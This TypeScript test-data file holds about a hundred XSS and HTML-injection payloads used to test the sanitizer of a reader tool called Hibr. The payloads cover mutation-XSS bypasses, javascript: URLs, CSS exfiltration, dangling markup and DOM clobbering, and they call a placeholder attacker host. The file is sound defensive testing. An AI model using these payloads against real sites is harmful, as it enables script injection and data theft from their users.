/**
 * Attack vectors against Hibr's sanitizer and extraction pipeline: data, shared by the unit tests
 * (jsdom) and the browser test. Each payload, if it ever ran, sets `window.__hibrPwned` to its id or
 * requests `http://127.0.0.1:{{ATTACKER_PORT}}/hit/<id>…`, a placeholder the browser test replaces
 * with its attacker server (`withAttackerOrigin`). An image of the article on the attacker's server is
 * allowed (it is one of the page's own images), so `/hit/` only ever appears where a request would be
 * a hole: a request the article did not visibly make, or one made on the reader's behalf without a click.
 */

export type VectorCategory =
  | 'script'
  | 'event-handler'
  | 'url-scheme'
  | 'namespace-confusion'
  | 'parsing-differential'
  | 'frame-and-plugin'
  | 'navigation'
  | 'css-exfiltration'
  | 'network-hint'
  | 'dangling-markup'
  | 'dom-clobbering'
  | 'obfuscation'
  | 'legacy-markup'
  | 'media';

export interface AttackVector {
  /** kebab-case, unique; the sentinel value and the last part of the `/hit/` path. */
  id: string;
  category: VectorCategory;
  /** What the payload tries to do if the sanitizer lets it through. */
  aims: string;
  html: string;
  /** The vector swallows the rest of the page when parsed, so an attack page puts it last. */
  swallowsRest?: true;
}

/** The attacker's origin as written in the vectors; `withAttackerOrigin` puts a real one in its place. */
export const ATTACKER_ORIGIN_PLACEHOLDER = 'http://127.0.0.1:{{ATTACKER_PORT}}';
/** Host and port as written in the vectors: also found without the scheme, in a protocol-relative URL. */
const ATTACKER_HOST_PLACEHOLDER = '127.0.0.1:{{ATTACKER_PORT}}';

/** `html` with the placeholder host replaced by that of `attackerOrigin` (`http://127.0.0.1:4321`). */
export function withAttackerOrigin(html: string, attackerOrigin: string): string {
  return html.replaceAll(ATTACKER_HOST_PLACEHOLDER, new URL(attackerOrigin).host);
}

/** The request a vector makes when it succeeds. */
export function hitUrl(id: string): string {
  return `${ATTACKER_ORIGIN_PLACEHOLDER}/hit/${id}`;
}

/** Builds a vector; `html` receives the script that sets the sentinel and the URL that reports a hit. */
function vector(
  id: string,
  category: VectorCategory,
  aims: string,
  html: (run: string, hit: string) => string,
  swallowsRest?: true,
): AttackVector {
  const built: AttackVector = { id, category, aims, html: html(`window.__hibrPwned='${id}'`, hitUrl(id)) };
  return swallowsRest ? { ...built, swallowsRest } : built;
}

export const VECTORS: readonly AttackVector[] = [
  // — script elements
  vector('script-inline', 'script', 'run an inline script', (run) => `<script>${run}</script>`),
  vector('script-src', 'script', 'load a script from the attacker', (_, hit) => `<script src="${hit}"></script>`),
  vector('script-uppercase', 'script', 'slip past a case-sensitive filter', (run) => `<SCRIPT>${run}</SCRIPT>`),
  vector('script-module', 'script', 'run a module script', (run) => `<script type="module">${run}</script>`),
  vector(
    'script-split-tag',
    'script',
    'reassemble a script tag once a filter removes the inner one',
    (run) => `<scr<script>x</script>ipt>${run}</scr<script>x</script>ipt>`,
  ),
  vector(
    'script-svg-xlink',
    'script',
    'run an SVG script whose source is a data: URL',
    (run) => `<svg><script xlink:href="data:text/javascript,${run}"></script></svg>`,
  ),

  // — event-handler attributes
  vector('img-onerror', 'event-handler', 'run onerror of a broken image', (run) => `<img src="x" onerror="${run}">`),
  vector(
    'img-onerror-mixed-case',
    'event-handler',
    'slip a handler past a case-sensitive filter',
    (run) => `<IMG SRC="x" OnErRoR="${run}">`,
  ),
  vector(
    'img-slash-separators',
    'event-handler',
    'separate attributes with slashes instead of spaces',
    (run) => `<img/src="x"/onerror="${run}">`,
  ),
  vector(
    'attribute-after-newline',
    'event-handler',
    'hide a handler after a line break in the tag',
    (run) => `<img src="x"\nonerror="${run}">`,
  ),
  vector('svg-onload', 'event-handler', 'run onload of an SVG', (run) => `<svg onload="${run}"></svg>`),
  vector('body-onload', 'event-handler', 'merge a handler into the page body', (run) => `<body onload="${run}">`),
  vector(
    'details-ontoggle',
    'event-handler',
    'run ontoggle of an open <details>',
    (run) => `<details open ontoggle="${run}"><summary>تفاصيل</summary>نص</details>`,
  ),
  vector(
    'a-onmouseover',
    'event-handler',
    'run a handler when the reader moves the mouse over a link',
    (run) => `<a href="https://example.org/" onmouseover="${run}" onclick="${run}">رابط</a>`,
  ),
  vector(
    'input-autofocus-onfocus',
    'event-handler',
    'run onfocus without a click',
    (run) => `<input autofocus onfocus="${run}">`,
  ),
  vector(
    'marquee-onstart',
    'event-handler',
    'run a legacy marquee handler',
    (run) => `<marquee onstart="${run}">خبر عاجل</marquee>`,
  ),
  vector(
    'css-animation-handler',
    'event-handler',
    'fire onanimationstart through a style',
    (run) => `<style>@keyframes hibr{}</style><div style="animation-name:hibr" onanimationstart="${run}">نص</div>`,
  ),
  vector(
    'custom-element-handler',
    'event-handler',
    'carry a handler on an unknown element',
    (run) => `<hibr-widget onclick="${run}" onpointerenter="${run}">نص</hibr-widget>`,
  ),

  // — javascript:, vbscript: and data: URLs
  vector(
    'a-href-javascript',
    'url-scheme',
    'run script when a link is followed',
    (run) => `<a href="javascript:${run}">اقرأ</a>`,
  ),
  vector(
    'a-href-vbscript',
    'url-scheme',
    'run VBScript (old engines)',
    (run) => `<a href="vbscript:Execute(&quot;${run}&quot;)">اقرأ</a>`,
  ),
  vector(
    'a-href-data-html',
    'url-scheme',
    'open an HTML document with script from a data: URL',
    (run) => `<a href="data:text/html,&lt;script&gt;${run}&lt;/script&gt;">اقرأ</a>`,
  ),
  vector('img-src-javascript', 'url-scheme', 'run script as an image source', (run) => `<img src="javascript:${run}">`),
  vector(
    'img-src-data-svg',
    'url-scheme',
    'load an SVG image that carries script',
    (run) => `<img src="data:image/svg+xml,&lt;svg onload=&quot;${run}&quot;/&gt;">`,
  ),
  vector('img-src-unknown-scheme', 'url-scheme', 'keep a URL of an unknown scheme', (run) => `<img src=x:${run}>`),
  vector(
    'img-srcset-javascript',
    'url-scheme',
    'hide a javascript: candidate in a srcset',
    (run) => `<img srcset="javascript:${run} 1x, https://example.org/a.jpg 2x">`,
  ),
  vector(
    'picture-source-srcset-data-svg',
    'url-scheme',
    'serve an SVG with script through <picture>',
    (run) => `<picture><source srcset="data:image/svg+xml,&lt;svg onload=${run}/&gt;"><img alt="صورة"></picture>`,
  ),
  vector(
    'button-formaction',
    'url-scheme',
    'run script when a button is pressed',
    (run) => `<form><button formaction="javascript:${run}">أرسل</button></form>`,
  ),
  vector(
    'form-action',
    'url-scheme',
    'run script when a form is submitted',
    (run) => `<form action="javascript:${run}"><input type="submit" value="أرسل"></form>`,
  ),
  vector(
    'svg-a-xlink-href',
    'url-scheme',
    'run script from an SVG link',
    (run) => `<svg><a xlink:href="javascript:${run}"><text y="20">اضغط</text></a></svg>`,
  ),
  vector(
    'math-href',
    'url-scheme',
    'run script from a MathML link',
    (run) => `<math href="javascript:${run}"><mi>x</mi></math>`,
  ),
  vector(
    'blockquote-cite-javascript',
    'url-scheme',
    'keep a javascript: citation URL',
    (run) => `<blockquote cite="javascript:${run}">اقتباس</blockquote>`,
  ),
  vector(
    'table-background',
    'url-scheme',
    'load a legacy background image',
    (_, hit) => `<table background="${hit}"><tr><td background="${hit}">خلية</td></tr></table>`,
  ),
  vector(
    'a-protocol-relative',
    'url-scheme',
    'keep a protocol-relative link without target',
    (_, hit) => `<a href="${hit.replace(/^http:/, '')}">المصدر</a>`,
  ),
  vector(
    'a-target-self',
    'navigation',
    'navigate the extension page itself',
    (_, hit) => `<a href="${hit}" target="_self">المصدر</a> <a href="${hit}" target="_top">المصدر</a>`,
  ),

  // — SVG and MathML namespace confusion (mutation XSS)
  vector(
    'math-mtext-mglyph-style',
    'namespace-confusion',
    'turn style text into an image once serialized and parsed again',
    (run) => `<math><mtext><table><mglyph><style><img src="x" onerror="${run}"></style></table></mtext></math>`,
  ),
  vector(
    'math-mglyph-style-comment',
    'namespace-confusion',
    'the DOMPurify 2.2.3 bypass: a comment in a style that becomes markup after a round trip',
    (run) =>
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=${run}&gt;"></table></mtext></math>`,
  ),
  vector(
    'svg-p-style',
    'namespace-confusion',
    'break out of SVG so that a style element ends early',
    (run) => `<svg></p><style><a id="</style><img src=x onerror=${run}>">`,
  ),
  vector(
    'form-math-mtext-mglyph',
    'namespace-confusion',
    'nested forms and foreign content flipping namespaces on reparse',
    (run) =>
      `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img src=x onerror=${run}>"></mtext></svg></mglyph></form></mtext></math>`,
  ),
  vector(
    'svg-foreignobject-img',
    'namespace-confusion',
    'HTML inside SVG through foreignObject',
    (run) => `<svg><foreignObject><img src="x" onerror="${run}"></foreignObject></svg>`,
  ),
  vector(
    'math-annotation-xml-style',
    'namespace-confusion',
    'HTML integration point inside MathML',
    (run) =>
      `<math><annotation-xml encoding="text/html"><style><img src=x onerror="${run}"></style></annotation-xml></math>`,
  ),
  vector(
    'svg-animate-href',
    'namespace-confusion',
    'set a link to javascript: through SVG animation',
    (run) => `<svg><a><animate attributeName="href" values="javascript:${run}"/><text y="20">اضغط</text></a></svg>`,
  ),
  vector(
    'svg-set-onbegin',
    'namespace-confusion',
    'run onbegin of an SVG animation',
    (run) => `<svg><set attributeName="x" to="1" onbegin="${run}"/></svg>`,
  ),

  // — raw-text elements and other parsing differentials
  vector(
    'noscript-title',
    'parsing-differential',
    'noscript parsed as text by the browser, as markup by the sanitizer',
    (run) => `<noscript><p title="</noscript><img src=x onerror=${run}>"></p></noscript>`,
  ),
  vector(
    'template-content',
    'parsing-differential',
    'bring inert template content to life',
    (run) => `<template><img src="x" onerror="${run}"></template>`,
  ),
  vector(
    'style-attribute-breakout',
    'parsing-differential',
    'close a style element from inside an attribute',
    (run) => `<style><img src="</style><img src=x onerror=${run}>"></style>`,
  ),
  vector(
    'textarea-breakout',
    'parsing-differential',
    'make textarea text into markup',
    (run) => `<textarea><img src=x onerror="${run}"></textarea>`,
  ),
  vector(
    'title-in-body',
    'parsing-differential',
    'make title text into markup',
    (run) => `<title><img src=x onerror="${run}"></title>`,
  ),
  vector(
    'xmp-breakout',
    'parsing-differential',
    'close an xmp from inside an attribute',
    (run) => `<xmp><p title="</xmp><img src=x onerror=${run}>"></xmp>`,
  ),
  vector(
    'noembed-breakout',
    'parsing-differential',
    'close a noembed from inside an attribute',
    (run) => `<noembed><img title="</noembed><img src=x onerror=${run}>"></noembed>`,
  ),
  vector(
    'iframe-text',
    'parsing-differential',
    'markup in an iframe\u2019s raw text',
    (run) => `<iframe><img src=x onerror="${run}"></iframe>`,
  ),
  vector(
    'comment-abrupt-close',
    'parsing-differential',
    'end a comment with «<!-->» so that what a filter reads as comment is markup',
    (run) => `<!--><img src="x" onerror="${run}">-->`,
  ),
  vector(
    'comment-bang-close',
    'parsing-differential',
    'end a comment with «--!>»',
    (run) => `<!-- x --!><img src="x" onerror="${run}"><!-- -->`,
  ),
  vector(
    'cdata-in-html',
    'parsing-differential',
    'a CDATA section that HTML reads as a bogus comment',
    (run) => `<![CDATA[><img src="x" onerror="${run}">]]>`,
  ),
  vector(
    'attribute-holds-comment-close',
    'parsing-differential',
    'markup-looking text in an attribute, read as markup after reserialization',
    (run) => `<p title="--><img src=x onerror=${run}>">نص</p>`,
  ),
  vector(
    'plaintext',
    'parsing-differential',
    'turn the rest of the page into text, or into markup on reparse',
    (run) => `<plaintext><img src=x onerror="${run}">`,
    true,
  ),
  vector(
    'comment-unclosed',
    'parsing-differential',
    'an unclosed comment that swallows the rest of the page',
    (run) => `<!-- <img src="x" onerror="${run}">`,
    true,
  ),

  // — frames and plugins
  vector(
    'iframe-srcdoc',
    'frame-and-plugin',
    'run a script in a same-origin frame',
    (run) => `<iframe srcdoc="&lt;script&gt;parent.${run}&lt;/script&gt;"></iframe>`,
  ),
  vector(
    'iframe-src-attacker',
    'frame-and-plugin',
    'load the attacker\u2019s page in a frame',
    (_, hit) => `<iframe src="${hit}"></iframe>`,
  ),
  vector(
    'iframe-javascript',
    'frame-and-plugin',
    'a frame whose src is script, turned into a link by the pipeline',
    (run) => `<iframe src="javascript:parent.${run}"></iframe>`,
  ),
  vector(
    'iframe-video-onload',
    'frame-and-plugin',
    'a real video embed that carries a handler',
    (run) => `<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ" onload="${run}"></iframe>`,
  ),
  vector(
    'object-data',
    'frame-and-plugin',
    'load a plugin or document from the attacker',
    (_, hit) => `<object data="${hit}"></object>`,
  ),
  vector(
    'embed-data-html',
    'frame-and-plugin',
    'embed a document that runs script',
    (run) => `<embed src="data:text/html,&lt;script&gt;${run}&lt;/script&gt;">`,
  ),
  vector(
    'applet-codebase',
    'frame-and-plugin',
    'load an applet from the attacker',
    (_, hit) => `<applet code="A.class" codebase="${hit}"></applet>`,
  ),
  vector(
    'frame-javascript',
    'frame-and-plugin',
    'a frame outside a frameset',
    (run) => `<frame src="javascript:${run}">`,
  ),

  // — navigation of the extension page
  vector(
    'meta-refresh',
    'navigation',
    'navigate the reader away',
    (_, hit) => `<meta http-equiv="refresh" content="0;url=${hit}">`,
  ),
  vector(
    'meta-refresh-javascript',
    'navigation',
    'navigate the reader to a javascript: URL',
    (run) => `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
  ),
  vector(
    'base-attacker',
    'navigation',
    'point every relative image of the article at the attacker (an off-origin <base>)',
    (_, hit) => `<base href="${hit}/"><img src="relative-photo.jpg" alt="صورة">`,
  ),
  vector(
    'base-javascript',
    'navigation',
    'make relative links resolve to javascript:',
    (run) => `<base href="javascript:${run}//"><a href="relative/page">اقرأ</a><a href="#top">أعلى</a>`,
  ),
  vector(
    'form-submit-attacker',
    'navigation',
    'a form that posts the page to the attacker',
    (_, hit) => `<form action="${hit}" method="post"><input name="q" value="x"><button>بحث</button></form>`,
  ),
  vector(
    'input-image',
    'navigation',
    'an image input that loads from the attacker',
    (_, hit) => `<input type="image" src="${hit}" alt="x">`,
  ),
  vector(
    'area-href',
    'navigation',
    'an image-map area with javascript:',
    (run) => `<map name="m"><area shape="rect" coords="0,0,9,9" href="javascript:${run}"></map>`,
  ),

  // — CSS exfiltration
  vector(
    'style-background-url',
    'css-exfiltration',
    'request the attacker from a style attribute',
    (_, hit) => `<p style="background:url(${hit})">نص</p>`,
  ),
  vector(
    'style-import',
    'css-exfiltration',
    'import a stylesheet from the attacker',
    (_, hit) => `<style>@import url("${hit}");</style>`,
  ),
  vector(
    'style-attribute-selector',
    'css-exfiltration',
    'leak attribute values with selectors',
    (_, hit) => `<style>a[href^="https"]{background:url("${hit}")}</style>`,
  ),
  vector(
    'style-font-face',
    'css-exfiltration',
    'load a font from the attacker',
    (_, hit) => `<style>@font-face{font-family:h;src:url("${hit}")}p{font-family:h}</style>`,
  ),
  vector(
    'style-expression',
    'css-exfiltration',
    'legacy CSS expression()',
    (run) => `<div style="width:expression(${run})">نص</div>`,
  ),
  vector(
    'link-stylesheet',
    'css-exfiltration',
    'load a stylesheet from the attacker',
    (_, hit) => `<link rel="stylesheet" href="${hit}">`,
  ),
  vector(
    'svg-style',
    'css-exfiltration',
    'a style element in SVG',
    (_, hit) => `<svg><style>*{background:url("${hit}")}</style></svg>`,
  ),

  // — resource hints and pings
  vector(
    'link-import',
    'network-hint',
    'HTML import from the attacker',
    (_, hit) => `<link rel="import" href="${hit}">`,
  ),
  vector(
    'link-prefetch',
    'network-hint',
    'prefetch from the attacker',
    (_, hit) => `<link rel="prefetch" href="${hit}"><link rel="preload" as="image" href="${hit}">`,
  ),
  vector(
    'link-dns-prefetch',
    'network-hint',
    'leak the reading through DNS',
    (_, hit) => `<link rel="dns-prefetch" href="${hit}"><link rel="preconnect" href="${hit}">`,
  ),
  vector(
    'a-ping',
    'network-hint',
    'ping the attacker when a link is followed',
    (_, hit) => `<a href="https://example.org/" ping="${hit}">رابط</a>`,
  ),

  // — dangling markup
  vector(
    'dangling-img',
    'dangling-markup',
    'an unclosed quote that sends the rest of the page to the attacker as an image URL',
    (_, hit) => `<img src='${hit}?\n<p>ما يلي في الصفحة</p>\n<p>وما بعده</p>'>`,
  ),
  vector(
    'dangling-srcset',
    'dangling-markup',
    'the same through a srcset',
    (_, hit) => `<img srcset='${hit}?<p>ما يلي 1x'>`,
  ),
  vector(
    'dangling-link',
    'dangling-markup',
    'an unclosed link URL that swallows the page',
    (_, hit) => `<a href='${hit}?\n<p>ما يلي في الصفحة</p>'>رابط</a>`,
  ),

  // — DOM clobbering
  vector(
    'clobber-form-attributes',
    'dom-clobbering',
    'a form whose inputs shadow attributes and nodeName, to blind a sanitizer',
    (run) => `<form><input name="attributes"><input name="nodeName"><img src="x" onerror="${run}"></form>`,
  ),
  vector(
    'clobber-document-names',
    'dom-clobbering',
    'names that shadow document properties Hibr reads',
    (run) =>
      `<img name="document" src="x" onerror="${run}"><img name="cookie"><form name="getElementById"></form><img name="body">`,
  ),
  vector(
    'clobber-window-ids',
    'dom-clobbering',
    'ids that shadow window globals',
    (run) =>
      `<a id="location" href="javascript:${run}">x</a><img id="alert"><a id="__hibrPwned" href="https://example.org/">y</a>`,
  ),
  vector(
    'clobber-sanitizer-api',
    'dom-clobbering',
    'names of the DOM methods a sanitizer calls',
    (run) => `<form name="removeAttribute"><input name="removeChild"><img src="x" onerror="${run}"></form>`,
  ),

  vector(
    'clobber-content-script',
    'dom-clobbering',
    'names that shadow the document properties extractArticle reads, to hand the sanitizer a fake window',
    (run) =>
      `<img name="defaultView" src="x" onerror="${run}"><form name="cloneNode"></form><img name="baseURI"><img name="getElementsByTagName">`,
  ),

  // — entity and Unicode obfuscation
  vector(
    'entity-decimal-scheme',
    'obfuscation',
    'spell javascript: with decimal entities',
    (run) => `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${run}">اقرأ</a>`,
  ),
  vector(
    'entity-hex-no-semicolon',
    'obfuscation',
    'spell javascript: with hex entities without semicolons',
    (run) => `<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${run}">اقرأ</a>`,
  ),
  vector(
    'entity-tab-in-scheme',
    'obfuscation',
    'a tab inside the scheme',
    (run) => `<a href="jav&#x09;ascript:${run}">اقرأ</a>`,
  ),
  vector(
    'entity-newline-in-scheme',
    'obfuscation',
    'a line feed inside the scheme',
    (run) => `<img src="java&#10;script:${run}">`,
  ),
  vector(
    'entity-colon-named',
    'obfuscation',
    'the colon as a named entity',
    (run) => `<a href="javascript&colon;${run}">اقرأ</a>`,
  ),
  vector(
    'leading-control-chars',
    'obfuscation',
    'C0 controls before the scheme, which URL parsers strip',
    (run) => `<a href="&#x01;&#x1F; javascript:${run}">اقرأ</a>`,
  ),
  vector('mixed-case-scheme', 'obfuscation', 'JaVaScRiPt:', (run) => `<a href="JaVaScRiPt:${run}">اقرأ</a>`),
  vector(
    'full-width-scheme',
    'obfuscation',
    'full-width letters that a normalizer might fold into javascript:',
    (run) => `<a href="\uFF4A\uFF41\uFF56\uFF41\uFF53\uFF43\uFF52\uFF49\uFF50\uFF54\uFF1A${run}">اقرأ</a>`,
  ),
  vector(
    'zero-width-scheme',
    'obfuscation',
    'zero-width characters inside the scheme',
    (run) => `<a href="java\u200Bscript:${run}">اقرأ</a><a href="\uFEFFjavascript:${run}">اقرأ</a>`,
  ),
  vector(
    'bidi-controls-url',
    'obfuscation',
    'bidi controls that disguise a URL',
    (run) => `<a href="\u202Ejavascript:${run}">اقرأ</a><img src="\u2066javascript:${run}\u2069" onerror="${run}">`,
  ),
  vector(
    'null-in-scheme',
    'obfuscation',
    'a NUL inside the scheme',
    (run) => `<a href="java&#0;script:${run}">اقرأ</a>`,
  ),
  vector(
    'entity-srcset',
    'obfuscation',
    'entities inside a srcset candidate',
    (run) => `<img srcset="jav&#x61;script:${run} 1x">`,
  ),

  // — legacy and odd markup
  vector(
    'isindex',
    'legacy-markup',
    'obsolete isindex with an image type',
    (run) => `<isindex type="image" src="x" onerror="${run}" action="javascript:${run}"></isindex>`,
  ),
  vector(
    'keygen-autofocus',
    'legacy-markup',
    'obsolete keygen with autofocus',
    (run) => `<keygen autofocus onfocus="${run}"></keygen>`,
  ),
  vector(
    'frameset-onload',
    'legacy-markup',
    'a frameset start tag in the body',
    (run) => `<frameset onload="${run}"><frame src="x"></frameset>`,
  ),
  vector(
    'img-lowsrc-dynsrc',
    'legacy-markup',
    'legacy image source attributes',
    (_, hit) => `<img lowsrc="${hit}" dynsrc="${hit}" alt="صورة">`,
  ),
  vector(
    'processing-instruction',
    'legacy-markup',
    'an XML processing instruction',
    (_, hit) => `<?xml-stylesheet href="${hit}"?><p>نص</p>`,
  ),

  // — media
  vector('video-poster', 'media', 'load a poster from the attacker', (_, hit) => `<video poster="${hit}"></video>`),
  vector(
    'audio-onerror',
    'media',
    'run onerror of an audio element',
    (run) => `<audio src="x" onerror="${run}"></audio>`,
  ),
  vector(
    'video-source-onerror',
    'media',
    'run onerror of a video source',
    (run) => `<video><source src="x" onerror="${run}"></video>`,
  ),
  vector(
    'video-track',
    'media',
    'load a text track from the attacker',
    (_, hit) => `<video><track src="${hit}"></video>`,
  ),
  vector(
    'source-src-data-html',
    'media',
    'a picture source with an HTML data: URL',
    (run) => `<picture><source src="data:text/html,&lt;script&gt;${run}&lt;/script&gt;"><img alt="صورة"></picture>`,
  ),
];
